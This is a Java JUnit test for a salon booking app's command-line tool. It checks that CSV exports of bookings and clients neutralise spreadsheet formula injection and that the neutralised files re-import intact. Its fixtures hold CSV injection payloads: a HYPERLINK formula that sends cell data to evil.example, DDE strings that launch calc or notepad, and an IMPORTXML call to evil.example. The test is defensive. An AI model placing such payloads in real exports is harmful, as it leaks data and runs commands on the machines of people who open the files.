package app.salondesk.cli;

import app.salondesk.logic.booking.BookingEngine;
import app.salondesk.logic.booking.EngineFixture;
import app.salondesk.logic.clients.StaffLogins;
import app.salondesk.logic.export.SpreadsheetCells;
import app.salondesk.model.booking.BookingOutcome;
import app.salondesk.model.booking.NewBooking;
import app.salondesk.model.booking.Source;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import static app.salondesk.logic.booking.EngineFixture.at;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 29, item 7: a receptionist (or a client booking online) types formulas where a name or a
 * note goes; the salon's manager exports the bookings and the clients and opens them in a
 * spreadsheet. The files are read as a spreadsheet reads a CSV (RFC 4180 cells, then any cell
 * that begins with {@code = + - @}, a tab or a carriage return is a formula): none is. A phone
 * ({@code +380…}) is written quoted as well, and the files import into another salon with every
 * name, phone and note as it was typed.
 */
class ExportFormulaAttackTest {

    /** What an attacker types, cell by cell: each would run (or compute) in a spreadsheet as written. */
    static final List<String> NAMES = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "Plain Olena");
    static final List<String> NOTES = List.of("=cmd|' /C notepad'!A0", "@evil", "-", "\t=1+1", "\r=2", "a note, \"quoted\"");

    private static EngineFixture f;
    private static SetupCli cli;
    private static StaffLogins logins;
    private static String receptionist;
    private static String manager;

    @BeforeAll
    static void salon() {
        f = new EngineFixture("cliformula", 2);
        cli = new SetupCli(f.backend.database().settings());
        logins = new StaffLogins(f.dsl, f.backend.database().settings());
        receptionist = logins.add(f.tenant, "frm", "receptionist");
        manager = logins.add(f.tenant, "fmg", "manager");
        BookingEngine asReceptionist = new BookingEngine(logins.dsl(receptionist));
        for (int i = 0; i < NAMES.size(); i++) {
            NewBooking b = new NewBooking(f.tenant, f.anna, null, new NewBooking.ClientDetails(NAMES.get(i), "+38067111220" + i), f.cut,
                    at(8 + i, 0), null, NOTES.get(i), UUID.randomUUID(), Source.FORM, false);
            assertInstanceOf(BookingOutcome.Booked.class, asReceptionist.book(b), NAMES.get(i));
        }
        f.dsl.execute("UPDATE clients SET notes = '=IMPORTXML(\"https://evil.example\",\"//a\")' WHERE tenant_id = " + f.tenant
                + " AND phone = '+380671112200'");
    }

    @AfterAll
    static void close() {
        logins.close();
        f.close();
    }

    /** The file's cells as a spreadsheet splits them (the header line too). */
    private static List<CSVRecord> cells(Path file) throws Exception {
        String text = Files.readString(file, StandardCharsets.UTF_8);
        String body = text.startsWith("\uFEFF") ? text.substring(1) : text;
        try (CSVParser p = CSVParser.parse(new StringReader(body), CSVFormat.RFC4180)) {
            return p.getRecords();
        }
    }

    /** Every cell of the file a spreadsheet would take for a formula: none, if the export is safe. */
    private static List<String> formulas(Path file) throws Exception {
        List<String> found = new ArrayList<>();
        for (CSVRecord row : cells(file)) {
            for (String cell : row) {
                if (!cell.isEmpty() && SpreadsheetCells.formulaStart(cell.charAt(0))) {
                    found.add("line " + row.getRecordNumber() + ": " + cell);
                }
            }
        }
        return found;
    }

    private static Path export(String login, String what, Path out, String... range) {
        List<String> args = new ArrayList<>(List.of("export", what));
        args.addAll(List.of(range));
        args.addAll(List.of("--out", out.toString()));
        SetupCli.Run r = cli.as(login, StaffLogins.PASSWORD, args.toArray(String[]::new));
        assertEquals(0, r.exit(), r.toString());
        return out;
    }

    @Test
    void noCellOfTheBookingsOrClientsFileIsAFormulaAndThePhonesAreKeptAsText(@TempDir Path dir) throws Exception {
        Path bookings = export(manager, "bookings", dir.resolve("bookings.csv"), "--from", EngineFixture.DAY.toString(),
                "--to", EngineFixture.DAY.toString());
        Path clients = export(manager, "clients", dir.resolve("clients.csv"));
        assertEquals(List.of(), formulas(bookings));
        assertEquals(List.of(), formulas(clients));
        assertEquals(NAMES.size() + 1, cells(bookings).size(), "a header and every booking");
        // the neutralised cells are the typed values behind one quote, and the phone is one of them
        CSVRecord first = cells(bookings).get(1);
        List<String> header = cells(bookings).get(0).toList();
        assertEquals("'" + NAMES.get(0), first.get(header.indexOf("client_name")));
        assertEquals("'+380671112200", first.get(header.indexOf("client_phone")));
        assertEquals("'" + NOTES.get(0), first.get(header.indexOf("note")));
        assertTrue(cells(clients).stream().anyMatch(r -> r.toList().contains("Plain Olena")), "a plain name is written as it is");
    }

    @Test
    void theExportedClientsImportIntoAnotherSalonAsTheyWereTyped(@TempDir Path dir) throws Exception {
        Path clients = export(manager, "clients", dir.resolve("clients.csv"));
        long copy = f.id("INSERT INTO tenants (name, time_zone) VALUES ('Formula copy', 'Europe/Kyiv') RETURNING id");
        SetupCli.Run imported = cli.owner("import", "clients", clients.toString(), "--tenant", Long.toString(copy));
        assertEquals(0, imported.exit(), imported.toString());
        String original = f.dsl.resultQuery("SELECT string_agg(name || '|' || coalesce(phone, '') || '|' || notes, E'\\n' ORDER BY phone) "
                + "FROM clients WHERE tenant_id = " + f.tenant + " AND phone LIKE '+38067111220%'").fetchOne(0, String.class);
        String copied = f.dsl.resultQuery("SELECT string_agg(name || '|' || coalesce(phone, '') || '|' || notes, E'\\n' ORDER BY phone) "
                + "FROM clients WHERE tenant_id = " + copy + " AND phone LIKE '+38067111220%'").fetchOne(0, String.class);
        assertEquals(original, copied);
        assertTrue(copied.contains("=HYPERLINK(") && copied.contains("+380671112200"), copied);
    }
}
